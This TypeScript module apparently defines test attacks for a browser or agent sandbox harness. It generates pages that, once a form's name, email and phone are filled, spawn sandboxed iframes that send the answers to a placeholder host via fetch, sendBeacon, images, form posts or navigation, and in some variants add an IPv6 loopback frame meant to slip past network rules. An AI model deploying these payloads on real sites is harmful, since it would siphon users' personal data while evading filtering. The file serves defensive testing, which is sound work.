import type { PageAttack } from '../attack';
import { bytesReceived, frozenIn } from '../stage/judging';
import { applicationPage, fillOf } from './markup';

/** What a frame does that runs before anything could take hold of it, to the address `to`. */
const acts: Readonly<Record<string, string>> = {
  fetch: `<script>fetch(to, { mode: 'no-cors' })</script>`,
  beacon: `<script>navigator.sendBeacon(to)</script>`,
  image: `<script>new Image().src = to</script>`,
  form: `<form method="post"></form><script>document.forms[0].action = to; document.forms[0].submit()</script>`,
  leaving: `<script>location = to</script>`,
};

/** Ways to make a document of no origin that its page knows what is in. */
const frames: Readonly<Record<string, string>> = {
  srcdoc: `frame.srcdoc = markup`,
  data: `frame.src = 'data:text/html,' + encodeURIComponent(markup)`,
  blob: `frame.src = URL.createObjectURL(new Blob([markup], { type: 'text/html' }))`,
};

const page = (act: string, frame: string, beside = ''): string => `${applicationPage()}${beside}<script>
const form = document.forms[0];
let isOver = false;
form.addEventListener('change', () => {
  if (isOver || ['first_name', 'last_name', 'email', 'phone'].some((name) => form[name].value === '')) return;
  isOver = true;
  const to = '{{other}}/collected?' + new URLSearchParams([...new FormData(form)]);
  const markup = '<script>const to = ' + JSON.stringify(to) + '<\\/script>' + ${JSON.stringify(act).replaceAll('</', '<\\/')};
  const frame = Object.assign(document.createElement('iframe'), { sandbox: 'allow-scripts allow-forms' });
  ${frame};
  document.body.append(frame);
});
</script>`;

/** A frame of an address that no network rule can name. */
const unnameable = `<script>addEventListener('input', () =>
  document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://[::1]/' })), { once: true });</script>`;

/** Sandboxed frames that a page makes with the answers in them. */
export const earlyFrames: PageAttack[] = Object.entries(frames).flatMap(([kind, frame]) =>
  Object.entries(acts).flatMap(([name, act]) => [
    attack(`${kind}/${name}`, name, page(act, frame)),
    attack(`${kind}/${name}/beside-an-ipv6-address`, name, page(act, frame, unnameable)),
  ]),
);

function attack(id: string, name: string, markup: string): PageAttack {
  return {
    id: `early-frame/${id}`,
    class: 'early-frame',
    goal: `a sandboxed frame sends what was filled in as it begins, by ${name}`,
    needsBrowser: true,
    stage: fillOf(markup, 1_200),
    judge: (evidence) => ({ bytesElsewhere: bytesReceived(evidence, ['other']), frozen: frozenIn(evidence) }),
  };
}
